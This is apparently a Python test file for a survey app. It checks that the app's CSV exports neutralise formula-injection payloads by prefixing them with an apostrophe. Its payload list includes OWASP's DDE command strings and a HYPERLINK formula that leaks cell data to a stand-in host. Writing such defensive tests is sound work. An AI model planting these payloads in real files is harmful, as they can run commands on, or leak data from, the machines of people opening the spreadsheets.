"""Formula-safe files (issue 17, item 3): the OWASP CSV-injection payloads are neutralised in
every file the CLI writes (tokens.csv of ``tokens issue`` and of ``letters``)."""

from __future__ import annotations

import csv
import io

import pytest

from survey_app.services.formula_safety import neutralise, neutralise_row
from tests.services import rosters

# OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): the characters
# that start a formula, and its example payloads; then the line feed and the full-width
# forms a Chinese input method types.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?leak=\"&A1&A2, \"Error: click for details\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "+1",
    "-1",
    "@A1",
]
EXTRA_PAYLOADS = ["\n=1+1", "＝1+1", "＋1", "－1", "＠A1"]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS + EXTRA_PAYLOADS)
def test_payload_is_prefixed_with_an_apostrophe(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["桃花仑社区", "H00001", "http://survey.test/s/x", 3, None,
                                   " =1", "a=b"])
def test_other_values_are_left_alone(value):
    assert neutralise(value) == value


def test_row():
    assert neutralise_row(["=1", 2, "x"]) == ["'=1", 2, "x"]


def _roster_with_hostile_communities(tmp_path):
    table = rosters.rows(len(OWASP_PAYLOADS) + len(EXTRA_PAYLOADS))
    for row, payload in zip(table, OWASP_PAYLOADS + EXTRA_PAYLOADS, strict=True):
        row[3] = payload.replace("\r", "").replace("\n", "").replace("\t", "")
        row[3] = row[3].replace('"', "")
    path = tmp_path / "roster.csv"
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(rosters.HEADER_ZH)
    writer.writerows(table)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path, {row[3] for row in table}


def _cells(path):
    return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")))
            for cell in row]


def test_cli_files_hold_no_live_formula(runner, tmp_path):
    assert runner.invoke(args=["campaign", "create", "f-1", "--title", "T"]).exit_code == 0
    roster_path, communities = _roster_with_hostile_communities(tmp_path)
    imported = runner.invoke(args=["roster", "import", "f-1", str(roster_path)])
    assert imported.exit_code == 0, imported.output
    assert runner.invoke(args=["sample", "draw", "f-1", "--seed", "1"]).exit_code == 0

    tokens = tmp_path / "tokens.csv"
    assert runner.invoke(args=["tokens", "issue", "f-1", "--out", str(tokens)]).exit_code == 0
    letters = tmp_path / "letters"
    assert runner.invoke(args=["letters", "f-1", "--out", str(letters), "--reissue"]
                         ).exit_code == 0
    for path in (tokens, letters / "tokens.csv"):
        cells = _cells(path)
        live = [c for c in cells if c.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))]
        assert live == []
        shown = {c[1:] for c in cells if c.startswith("'")}
        assert shown and shown <= communities
